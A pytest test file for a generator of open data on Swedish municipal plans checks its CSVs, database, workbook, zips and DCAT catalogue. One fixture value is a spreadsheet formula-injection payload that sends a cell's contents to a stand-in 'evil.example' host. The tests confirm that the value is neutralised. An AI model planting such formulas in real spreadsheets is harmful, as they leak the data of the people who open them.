"""Open data: the site-wide CSVs, the database, the workbook, each plan's zip, index.json and the
data catalogue, read back from one real build of a small two-plan project with a site address."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup
from frictionless import validate
from rdflib import BNode, Graph, Literal, Namespace, URIRef
from rdflib import namespace as ns
from rdflib.compare import isomorphic

from generator.build.pipeline import BuildResult, build_site
from generator.config import settings as config
from generator.i18n import texts
from generator.outputs import database, downloads, open_data, tables, workbook
from generator.render.data_page import SITE_TABLES, table_columns
from generator.spec import urls
from generator.validate.project import made_by_build, validate_project

from .conftest import MINIMAL_PLAN, ROOT, csv_text, make_package, read_csv

SITE_URL = "https://planer.example.se/oppna/"
FIRST, SECOND = "testby-testnamnden-2024", "harryda-socialnamnden-2023"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
VCARD = Namespace("http://www.w3.org/2006/vcard/ns#")
CC0 = URIRef("http://creativecommons.org/publicdomain/zero/1.0/")

ASSIGNMENTS = csv_text(["assignment_id", "goal_id", "title", "decided_by", "financing", "target_images", "section",
                        "order", "note"],
                       [["uppdrag-1", "mal-1", HOSTILE, "N/S", "Inom ram", "", "3.1", "1", ""],
                        ["uppdrag-2", "", "+ demografi", "", "", "", "3.1", "2", "ingen målkoppling"]])
RISKS = csv_text(["risk_id", "area", "risk", "probability", "probability_label", "consequence", "consequence_label",
                  "risk_value", "risk_printed", "control", "follow_up", "section", "order", "note"],
                 [["risk-1", "Ekonomi", "Kostnaderna ökar", "3", "Möjlig", "3", "Kännbar", "9", "=9", "Uppföljning",
                   "Varje månad", "6.3", "1", ""]])
OBSERVATIONS = csv_text(["indicator_id", "period", "value_type", "gender", "comparator", "value", "value_max", "printed",
                         "trend", "comparison", "note"],
                        [["vantetid", "2022", "utfall", "T", "", "13.25", "", "13,25", "", "", ""],
                         ["vantetid", "2023", "utfall", "T", "", "", "", "Uppnått", "", "", ""],
                         ["vantetid", "2025", "mal", "T", "<=", "2", "", "≤2", "", "", ""]])
INDICATORS = csv_text(["indicator_id", "goal_id", "name", "unit", "kind", "direction", "kolada_id", "concordance_key",
                       "decided_by", "measures", "agenda2030", "table_id", "section", "order", "note"],
                      [["vantetid", "mal-1", "Väntetid i dagar", "dagar", "target", "lower", "N31814", "", "", "", "",
                        "", "1", "1", ""]])


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("opendata")
    text = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    text = text.replace("site_name: Öppna planer\n", f"site_name: Öppna planer\nsite_url: {SITE_URL}\n", 1)
    lines = [line if not line.startswith("  contact:") else '  contact: "data@example.se"' for line in text.splitlines()]
    (root / "mkdocs.yml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    shutil.copytree(ROOT / "site_theme", root / "site_theme")
    (root / "content").mkdir()
    make_package(root, FIRST, files={"assignments.csv": ASSIGNMENTS, "risks.csv": RISKS,
                                     "observations.csv": OBSERVATIONS, "indicators.csv": INDICATORS})
    second = {**MINIMAL_PLAN, "municipality": "Härryda", "municipality_code": "1401", "board": "Socialnämnden",
              "period_start": 2023, "period_end": 2024, "data_start": 2021, "data_end": 2025,
              "adopted_date": "2023-03-08"}
    make_package(root, SECOND, plan=second)
    return root


@pytest.fixture(scope="module")
def site(project: Path) -> Path:
    """The one real build of this module (mkdocs --strict included)."""
    result = build_site(project, project / "site")
    assert result.notices == ()  # a site address and an email address: nothing to warn about
    return result.site_dir


def _source_rows(project: Path, plan: str, name: str) -> list[dict[str, str]]:
    return read_csv(project / "datapackages" / plan / name)


def test_site_wide_tables_hold_every_plans_rows_as_in_the_packages(project: Path, site: Path):
    for table, source, key in (("goals", "goals.csv", "goal_id"), ("assignments", "assignments.csv", "assignment_id"),
                               ("risks", "risks.csv", "risk_id")):
        rows = read_csv(site / "data" / f"{table}.csv")
        assert list(rows[0]) == list(downloads.SITE_TABLES[table][0]) if rows else True
        published = {(r["plan_id"], r[key]): r for r in rows}
        expected = {(plan, r[key]): r for plan in (FIRST, SECOND) if (project / "datapackages" / plan / source).exists()
                    for r in _source_rows(project, plan, source)}
        assert set(published) == set(expected), table
        for k, source_row in expected.items():
            for column, value in source_row.items():
                want = "'" + value if value == HOSTILE or value == "+ demografi" else value
                assert published[k][column] == want, (table, k, column)
            assert published[k]["municipality_code"] == ("0683" if k[0] == FIRST else "1401")
    goals = {(r["plan_id"], r["goal_id"]): r for r in read_csv(site / "data" / "goals.csv")}
    assert goals[(SECOND, "mal-1")]["municipality"] == "Härryda"
    assert (site / goals[(FIRST, "mal-1")]["page_url"] / "index.html").is_file()
    plans = {r["plan_id"]: r for r in read_csv(site / "data" / "plans.csv")}
    assert plans[SECOND]["adopted_date"] == "2023-03-08" and plans[FIRST]["adopted_date"] == ""
    assert (site / plans[FIRST]["zip_url"]).is_file() and (site / plans[FIRST]["package_url"]).is_file()


def test_observations_carry_the_concordance_key_and_exact_values(site: Path):
    rows = read_csv(site / "data" / "observations.csv")
    assert list(rows[0])[-4:] == ["concordance_key", "source", "source_date", "source_url"]  # after the contract
    mine = {(r["plan_id"], r["period"]): r for r in rows if r["indicator_id"] == "vantetid"}
    assert mine[(FIRST, "2022")]["value"] == "13.25" and mine[(FIRST, "2023")]["note"] == "Uppnått"
    indicators = {(r["plan_id"], r["indicator_id"]): r["concordance_key"] for r in read_csv(site / "data" / "indicators.csv")}
    assert all(r["concordance_key"] == indicators[(r["plan_id"], r["indicator_id"])] for r in rows)


def test_the_data_index_lists_every_data_file_with_its_checksum(site: Path):
    index = json.loads((site / "data" / "index.json").read_text(encoding="utf-8"))
    built = sorted(str(p.relative_to(site)) for p in (site / "data").rglob("*")
                   if p.is_file() and p.name not in ("index.json", "index.html"))
    assert [f["path"] for f in index["files"]] == built
    assert {f"data/{FIRST}/{FIRST}.zip", "data/plans.sqlite", "data/plans.xlsx", "data/catalog.rdf",
            "data/catalog.jsonld", "data/goals.csv", f"data/{SECOND}/goals.csv"} <= set(built)
    for entry in index["files"]:
        data = (site / entry["path"]).read_bytes()
        assert entry["bytes"] == len(data) and entry["sha256"] == hashlib.sha256(data).hexdigest(), entry["path"]
        assert entry["url"] == SITE_URL + entry["path"]
    by_path = {f["path"]: f for f in index["files"]}
    assert by_path[f"data/{SECOND}/{SECOND}.zip"]["modified"] == "2023-03-08"  # the plan's adoption
    assert by_path[f"data/{FIRST}/goals.csv"]["modified"] is None  # the plan states no date
    assert by_path["data/observations.csv"]["modified"] == "2023-03-08"  # the newest plan date
    assert by_path[f"data/{FIRST}/goals.csv"]["plan_id"] == FIRST and by_path["data/plans.sqlite"]["plan_id"] is None
    # compact, one file a line (a third smaller than indented; a change to a file is one line of a diff)
    lines = (site / "data" / "index.json").read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(index["files"]) + 2 and [json.loads(line.rstrip(",")) for line in lines[1:-1]] == index["files"]


def test_validate_knows_every_download_the_build_publishes(project: Path, site: Path):
    """What validate follows a page's links into ``data/`` by (``made_by_build``: ``urls.site_data_files``,
    ``plan_data_files`` and ``chart_files`` of the indicators that are ``drawn``) names exactly the
    files the build writes into data/ besides the data page."""
    settings = config.read(project)
    report = validate_project(project / "datapackages", project / "content", site=settings)
    made = made_by_build(report.validated.values(), settings)
    built = {p.relative_to(site).as_posix() for p in (site / "data").rglob("*") if p.is_file()}
    charts = {path for path in built if "/indikatorer/" in path and path.endswith((".svg", ".png", ".vl.json"))}
    assert built - charts - {"data/index.html"} == made.downloads
    assert charts == made.charts and charts
    assert list(downloads.SITE_TABLES) == list(urls.SITE_TABLES)


def test_an_indicators_json_is_compact_with_one_observation_a_line(site: Path):
    path = next(p for p in (site / "data" / FIRST / "indikatorer").glob("*.json") if not p.name.endswith(".vl.json"))
    text = path.read_text(encoding="utf-8")
    doc = json.loads(text)
    assert doc["observations"] and doc["plan_id"] == FIRST
    lines = text.splitlines()
    assert len(lines) == len(doc["observations"]) + 2 and "  " not in lines[0]
    assert [json.loads(line.rstrip(",")) for line in lines[1:-1]] == doc["observations"]


@pytest.mark.parametrize("plan", [FIRST, SECOND])
def test_each_plan_zip_is_its_published_package_and_validates(site: Path, plan: str):
    path = site / "data" / plan / f"{plan}.zip"
    with zipfile.ZipFile(path) as packed:
        names = packed.namelist()
        assert names[0] == "datapackage.json" and names[1:] == sorted(names[1:])
        published = sorted(p.name for p in (site / "data" / plan).iterdir() if p.is_file() and p.suffix != ".zip")
        assert sorted(names) == published
        for info in packed.infolist():
            assert info.date_time == (1980, 1, 1, 0, 0, 0)
            assert packed.read(info) == (site / "data" / plan / info.filename).read_bytes()
    report = validate(str(path))
    assert report.valid, report.flatten(["type", "note"])[:5]
    resources = json.loads((site / "data" / plan / "datapackage.json").read_text(encoding="utf-8"))["resources"]
    assert len(report.tasks) == len(resources) and all(task.stats["rows"] > 0 for task in report.tasks)


def test_the_database_has_every_table_with_keys_indexes_and_the_csv_rows(site: Path):
    db = sqlite3.connect(site / "data" / "plans.sqlite")
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    for name in downloads.SITE_TABLES:
        info = db.execute(f'PRAGMA table_info("{name}")').fetchall()
        assert [c[1] for c in info] == list(downloads.SITE_TABLES[name][0]), name
        assert tuple(c[1] for c in sorted(info, key=lambda c: c[5]) if c[5]) == tables.PRIMARY_KEYS[name]
        csv_rows = read_csv(site / "data" / f"{name}.csv")
        assert db.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0] == len(csv_rows), name
        for column in ("plan_id", "indicator_id", "kolada_id", "period", "municipality_code"):
            if column in downloads.SITE_TABLES[name][0]:  # a filter on it is answered from an index, not a scan
                plan = " ".join(r[-1] for r in db.execute(f'EXPLAIN QUERY PLAN SELECT * FROM "{name}" WHERE "{column}" = ?', ("x",)))
                assert "USING INDEX" in plan or "USING PRIMARY KEY" in plan, (name, column, plan)
        if name != "plans":
            targets = {(fk[2], fk[3]) for fk in db.execute(f'PRAGMA foreign_key_list("{name}")').fetchall()}
            assert ("plans", "plan_id") in targets, name
    fks = db.execute('PRAGMA foreign_key_list("observations")').fetchall()
    assert {(fk[2], fk[3], fk[4]) for fk in fks if fk[2] == "indicators"} == {
        ("indicators", "plan_id", "plan_id"), ("indicators", "indicator_id", "indicator_id")}
    db.row_factory = sqlite3.Row
    stored = {(r["plan_id"], r["period"]): r for r in db.execute("SELECT * FROM observations")}
    for row in read_csv(site / "data" / "observations.csv"):  # every value equals the CSV's
        got = stored[(row["plan_id"], int(row["period"]))] if row["indicator_id"] == "vantetid" else None
        if got is not None:
            assert (Decimal(repr(got["value"])) if got["value"] is not None else "") == (Decimal(row["value"]) if row["value"] else "")
            assert (got["note"] or "") == row["note"]
    assert db.execute("SELECT typeof(value), typeof(period) FROM observations WHERE value IS NOT NULL LIMIT 1").fetchone()[:] == ("real", "integer")
    assert db.execute("SELECT title FROM assignments WHERE assignment_id = 'uppdrag-1'").fetchone()[0] == "'" + HOSTILE


def test_the_workbook_neutralises_formulas_and_keeps_numbers_numeric(site: Path):
    book = openpyxl.load_workbook(site / "data" / "plans.xlsx")
    assert book.sheetnames == [texts.t("opendata.workbook.readme_sheet", "sv"), *downloads.SITE_TABLES]
    sheet = book["assignments"]
    header = [c.value for c in sheet[1]]
    cells = {row[header.index("assignment_id")].value: row[header.index("title")] for row in sheet.iter_rows(min_row=2)}
    assert cells["uppdrag-1"].value == "'" + HOSTILE and cells["uppdrag-1"].data_type == "s"
    risks = book["risks"]
    header = [c.value for c in risks[1]]
    printed = risks.cell(row=2, column=header.index("risk_printed") + 1)
    assert printed.value == "=9" and printed.data_type == "s"  # a number as written stays text, never a formula
    assert risks.cell(row=2, column=header.index("risk_value") + 1).value == 9
    with zipfile.ZipFile(site / "data" / "plans.xlsx") as packed:  # no formula anywhere in the file
        assert not any(b"<f>" in packed.read(n) or b"<f " in packed.read(n) for n in packed.namelist())
    obs = book["observations"]
    header = [c.value for c in obs[1]]
    values = {(r[header.index("plan_id")].value, r[header.index("period")].value): r[header.index("value")].value
              for r in obs.iter_rows(min_row=2)}
    assert values[(FIRST, 2022)] == 13.25 and values[(FIRST, 2025)] == 2 and values[(FIRST, 2023)] is None
    readme = book.worksheets[0]
    explained = {(r[0].value, r[1].value) for r in readme.iter_rows(min_row=5) if r[1].value}
    assert explained == {(name, c) for name, (columns, _) in downloads.SITE_TABLES.items() for c in columns}


def test_the_catalog_is_dcat_with_absolute_iris_and_every_download_built(site: Path):
    graph = Graph().parse(site / "data" / "catalog.rdf", format="xml")
    again = Graph().parse(site / "data" / "catalog.jsonld", format="json-ld")
    assert isomorphic(graph, again) and len(graph) > 50
    assert not [t for t in graph for node in t if isinstance(node, BNode)]
    assert all(str(s).startswith(SITE_URL) for s in graph.subjects())
    datasets = sorted(graph.subjects(ns.RDF.type, ns.DCAT.Dataset))
    assert [str(d) for d in datasets] == [f"{SITE_URL}data/catalog.rdf#dataset-{p}" for p in sorted((FIRST, SECOND))]
    for dataset in datasets:
        for prop in (ns.DCTERMS.title, ns.DCTERMS.description, ns.DCTERMS.publisher, ns.DCAT.contactPoint, ns.DCTERMS.temporal,
                     ns.DCAT.theme, ns.DCAT.keyword, ns.DCTERMS.license, ns.DCAT.distribution):
            assert graph.value(dataset, prop) is not None, (dataset, prop)
        publisher = graph.value(dataset, ns.DCTERMS.publisher)
        assert graph.value(publisher, ns.RDF.type) == ns.FOAF.Agent and graph.value(publisher, ns.FOAF.name)
        assert graph.value(publisher, ns.DCTERMS.type) == URIRef("http://purl.org/adms/publishertype/LocalAuthority")
        contact = graph.value(dataset, ns.DCAT.contactPoint)
        assert graph.value(contact, ns.RDF.type) == VCARD.Organization
        assert graph.value(contact, VCARD.hasEmail) == URIRef("mailto:data@example.se")
        assert URIRef("http://publications.europa.eu/resource/authority/data-theme/GOVE") in set(graph.objects(dataset, ns.DCAT.theme))
        assert graph.value(dataset, ns.DCTERMS.license) == CC0
        kinds = set()
        for dist in graph.objects(dataset, ns.DCAT.distribution):
            url = str(graph.value(dist, ns.DCAT.downloadURL))
            assert url.startswith(SITE_URL) and (site / url[len(SITE_URL):]).is_file(), url
            assert int(graph.value(dist, ns.DCAT.byteSize)) == (site / url[len(SITE_URL):]).stat().st_size
            assert str(graph.value(dist, ns.DCAT.mediaType)).startswith("http://www.iana.org/assignments/media-types/")
            assert graph.value(dist, ns.DCTERMS.format) is not None and graph.value(dist, ns.DCTERMS.license) == CC0
            kinds.add(url.rsplit(".", 1)[-1])
        assert kinds == {"zip", "csv", "sqlite"}
    second = URIRef(f"{SITE_URL}data/catalog.rdf#dataset-{SECOND}")
    period = graph.value(second, ns.DCTERMS.temporal)
    assert (str(graph.value(period, ns.DCAT.startDate)), str(graph.value(period, ns.DCAT.endDate))) == ("2023-01-01", "2024-12-31")
    assert Literal("Härryda", lang="sv") in set(graph.objects(second, ns.DCAT.keyword))


def test_the_data_page_explains_every_file_and_column_and_links_only_built_files(site: Path):
    page = BeautifulSoup((site / "data" / "index.html").read_text(encoding="utf-8"), "html.parser")
    text = page.get_text(" ")
    for href in {a["href"] for a in page.select("article a[href]") if not a["href"].startswith(("#", "http"))}:
        target = (site / "data" / href).resolve()
        assert target.is_file() or (target / "index.html").is_file(), href
    linked = {a["href"] for a in page.select("article a[href]")}
    for name in ("plans.sqlite", "plans.xlsx", "index.json", "catalog.rdf", "catalog.jsonld",
                 *(f"{t}.csv" for t in SITE_TABLES), f"{FIRST}/{FIRST}.zip"):
        assert name in linked, name
    for table in SITE_TABLES:
        caption = page.find("caption", string=texts.t("site.data.columns_caption", "sv", file=f"{table}.csv"))
        documented = [th.get_text() for th in caption.find_parent("table").select("tbody th")]
        assert documented == list(downloads.SITE_TABLES[table][0]), table
    assert "import pandas as pd" in text and f"{SITE_URL}data/" in text and "plans.xlsx" in text


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_the_catalogue_describes_every_column_in_the_files_order(lang: str):
    assert tuple(downloads.SITE_TABLES) == SITE_TABLES
    for name, (columns, _) in downloads.SITE_TABLES.items():
        assert list(table_columns(name, lang)) == list(columns), name


def _open_data_digests(project: Path, seed: str) -> dict[str, str]:
    """The open-data files' sha256 from a fresh interpreter with another hash seed."""
    code = ("import hashlib, json, sys; from pathlib import Path; from dataclasses import replace\n"
            "from generator.build.pipeline import _published_package\n"
            "from generator.config import settings; from generator.outputs import downloads, open_data\n"
            "from generator.validate.project import made_by_build, validate_project\n"
            "root = Path(sys.argv[1]); r = validate_project(root / 'datapackages', root / 'content')\n"
            "plans = [r.validated[n].plan for n in r.plans]\n"
            "pub = {n: _published_package(r.validated[n]) for n in r.plans}\n"
            "from generator.render import charts, pages\n"
            "charts_svg = pages.render_site(plans, {}, charts.to_svg, site_url=settings.read(root).site_url).files\n"
            "text = {**downloads.render_downloads(plans), **charts_svg, **{f'data/{n}/{k}': v for n in pub for k, v in pub[n].items()}}\n"
            "from generator.authoring.blank import blank_template_bytes; from generator.spec import urls\n"
            "from generator.build import raster\n"
            "pngs, _ = raster.rasterise({p: s for p, s in charts_svg.items() if p.endswith('.svg')}, raster.cache_dir(root))\n"
            "out = open_data.render_open_data(plans, text, pub, settings.read(root), {urls.TEMPLATE: blank_template_bytes(), **pngs})\n"
            "print(json.dumps({k: hashlib.sha256(v).hexdigest() for k, v in out.files.items()}))\n")
    env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-c", code, str(project)], capture_output=True, text=True, env=env, check=True)
    return json.loads(done.stdout)


def test_the_same_input_gives_the_same_bytes(project: Path, site: Path):
    first, second = _open_data_digests(project, "1"), _open_data_digests(project, "2")
    pngs = sorted(p for p in first if p.endswith(".png"))  # a chart PNG beside each chart SVG
    assert pngs == sorted(str(p.relative_to(site).with_suffix(".png")) for p in (site / "data").rglob("*.svg"))
    assert first == second and len(first) == 2 + 2 + 2 + 1 + 1 + len(pngs) and pngs  # two zips, database, workbook,
    # catalogue ×2, index, template and the PNGs
    for path, digest in first.items():  # and the same as the build wrote
        assert hashlib.sha256((site / path).read_bytes()).hexdigest() == digest, path


def test_without_a_site_address_there_is_no_catalogue_and_one_warning(project: Path, monkeypatch):
    report = validate_project(project / "datapackages", project / "content")
    plans = [replace(report.validated[n].plan) for n in report.plans]
    settings = replace(config.read(project), site_url="", contact="skriv ett ärende")
    out = open_data.render_open_data(plans, {}, {}, settings)
    assert out.notices == (open_data.NO_SITE_URL,)
    assert not [p for p in out.files if "catalog" in p]
    assert all(f["url"] is None for f in json.loads(out.files["data/index.json"])["files"])
    with_url = open_data.render_open_data(plans, {}, {}, replace(settings, site_url=SITE_URL))
    assert with_url.notices == (open_data.CONTACT_NOT_EMAIL,)  # the contact is text: the catalogue links the site
    graph = Graph().parse(data=with_url.files["data/catalog.rdf"], format="xml")
    contact = URIRef(f"{SITE_URL}data/catalog.rdf#contact")
    assert graph.value(contact, VCARD.hasURL) == URIRef(SITE_URL) and graph.value(contact, VCARD.hasEmail) is None

    from click.testing import CliRunner

    from generator import cli
    from generator.build import pipeline
    result = BuildResult(project / "site", report, 2, 2, 9, out.notices)
    monkeypatch.setattr(pipeline, "build_site", lambda *a, **k: result)  # the command imports it when it runs
    run = CliRunner().invoke(cli.cli, ["build", "--root", str(project), "--quiet"])
    lines = [line for line in run.output.splitlines() if "site_url" in line]
    assert run.exit_code == 0 and lines == ["VARNING: " + texts.t(open_data.NO_SITE_URL, "sv")]


def test_a_decimal_a_float_cannot_hold_is_kept_as_text():
    long = Decimal("1234567890.123456789")
    table = tables.Table("observations", ("plan_id", "value", "period"),
                         ({"plan_id": "p", "value": long, "period": 2024}, {"plan_id": "p", "value": Decimal("9.8"),
                                                                             "period": 2025}),
                         ("plan_id", "period"), (), ())
    assert table.column_type("value") is str and tables.exact_float(Decimal("9.8")) == 9.8
    db = sqlite3.connect(":memory:")
    db.deserialize(database.database_bytes([replace(table, name="plans", primary_key=("plan_id", "period"))]))
    rows = db.execute("SELECT value, typeof(value) FROM plans ORDER BY period").fetchall()
    assert rows == [("1234567890.123456789", "text"), ("9.8", "text")]
    book = openpyxl.load_workbook(io.BytesIO(workbook.workbook_bytes([table], lang="en")))
    assert [book["observations"].cell(row=r, column=2).value for r in (2, 3)] == ["1234567890.123456789", 9.8]


def test_the_csv_cells_are_those_the_workbook_and_database_hold(site: Path):
    """One more path to the same values: the workbook's cells read back equal the CSV's text."""
    book = openpyxl.load_workbook(site / "data" / "plans.xlsx")
    for name in downloads.SITE_TABLES:
        with (site / "data" / f"{name}.csv").open(encoding="utf-8", newline="") as fh:
            expected = list(csv.reader(fh))
        got = [[("" if c is None else c) for c in row] for row in book[name].iter_rows(values_only=True)]
        assert len(got) == len(expected), name
        for want_row, got_row in zip(expected, got):
            for want, cell in zip(want_row, got_row):
                if isinstance(cell, (int, float)) and not isinstance(cell, bool):
                    assert Decimal(repr(cell)) == Decimal(want), (name, want, cell)
                else:
                    assert cell == want, (name, want, cell)


def test_a_decimal_of_17_digits_is_text_in_the_workbook_not_a_rounded_number():
    seventeen = Decimal("123456789.12345679")  # a float holds it; openpyxl writes floats with 16 digits
    assert tables.exact_float(seventeen) is not None
    table = tables.Table("observations", ("plan_id", "value", "period"),
                         ({"plan_id": "p", "value": seventeen, "period": 2024},
                          {"plan_id": "p", "value": Decimal("13.25"), "period": 2025}), ("plan_id", "period"), (), ())
    book = openpyxl.load_workbook(io.BytesIO(workbook.workbook_bytes([table], lang="sv")))
    assert [book["observations"].cell(row=r, column=2).value for r in (2, 3)] == ["123456789.12345679", 13.25]



@pytest.mark.parametrize("value", [
    "😀" * 20000,  # 20 000 characters but 40 000 UTF-16 units, which is what a cell's 32 767 counts
    "a" * 40000,
], ids=["emoji", "long"])
def test_a_text_longer_than_a_cell_holds_is_cut_visibly_with_a_notice(value: str):
    table = tables.Table("assignments", ("plan_id", "note"), ({"plan_id": "p", "note": value},), ("plan_id",), (), ())
    written = workbook.write([table], lang="sv")
    assert written.notices == (workbook.CELL_CUT,)
    assert texts.t(workbook.CELL_CUT, "sv").startswith("data/plans.xlsx:")
    cell = openpyxl.load_workbook(io.BytesIO(written.data))["assignments"].cell(row=2, column=2).value
    assert cell.endswith(workbook.CUT_MARK) and value.startswith(cell.removesuffix(workbook.CUT_MARK))
    assert len(cell.encode("utf-16-le")) // 2 <= workbook.MAX_CELL_UNITS
    assert len(cell.encode("utf-16-le")) // 2 > workbook.MAX_CELL_UNITS - 8  # nothing cut that fits


def test_rows_past_a_sheets_last_are_left_out_with_a_notice(monkeypatch):
    monkeypatch.setattr(workbook, "MAX_ROWS", 8)  # the README's 7 rows fit; the table's header and 7 rows
    table = tables.Table("goals", ("plan_id", "order"), tuple({"plan_id": "p", "order": i} for i in range(10)),
                         ("plan_id",), (), ())
    written = workbook.write([table], lang="en")
    book = openpyxl.load_workbook(io.BytesIO(written.data))
    rows = list(book["goals"].iter_rows(values_only=True))
    assert written.notices == (workbook.ROWS_LEFT_OUT,) and rows == [("plan_id", "order")] + [("p", i) for i in range(7)]
    readme = [r for r in book.worksheets[0].iter_rows(values_only=True) if any(r)]
    assert len(readme) == 6 and readme[-1][:2] == ("goals", "order")  # the README whole
    assert workbook.write([table], lang="en").data == written.data  # the same bytes every time


def test_a_whole_number_a_float_cannot_hold_is_text_in_the_workbook():
    table = tables.Table("goals", ("plan_id", "order"), ({"plan_id": "p", "order": 10 ** 17 + 1},
                                                         {"plan_id": "q", "order": 7}), ("plan_id",), (), ())
    written = workbook.write([table], lang="sv")
    sheet = openpyxl.load_workbook(io.BytesIO(written.data))["goals"]
    assert [sheet.cell(row=r, column=2).value for r in (2, 3)] == ["100000000000000001", 7]
    assert written.notices == ()


def test_the_tables_read_back_from_the_csvs_are_those_made_from_the_plans(project: Path):
    """The build makes the database and workbook from the site's CSVs in a process of its own
    (``tables.tables_of_csv``): cell for cell and type for type the tables made from the model, with
    formulas neutralised, empty cells, decimals and whole numbers."""
    report = validate_project(project / "datapackages", project / "content")
    plans = [report.validated[name].plan for name in report.plans]
    csvs, _, _ = open_data.site_data_inputs(plans, "sv")
    made, read = tables.site_tables(plans), tables.tables_of_csv(csvs)
    assert read == made and len(plans) == 2
    assert [[type(v) for row in t.rows for v in row.values()] for t in read] == \
        [[type(v) for row in t.rows for v in row.values()] for t in made]
    cells = [v for t in read for row in t.rows for v in row.values()]
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in cells)
    assert any(isinstance(v, Decimal) for v in cells) and any(isinstance(v, int) for v in cells) and None in cells
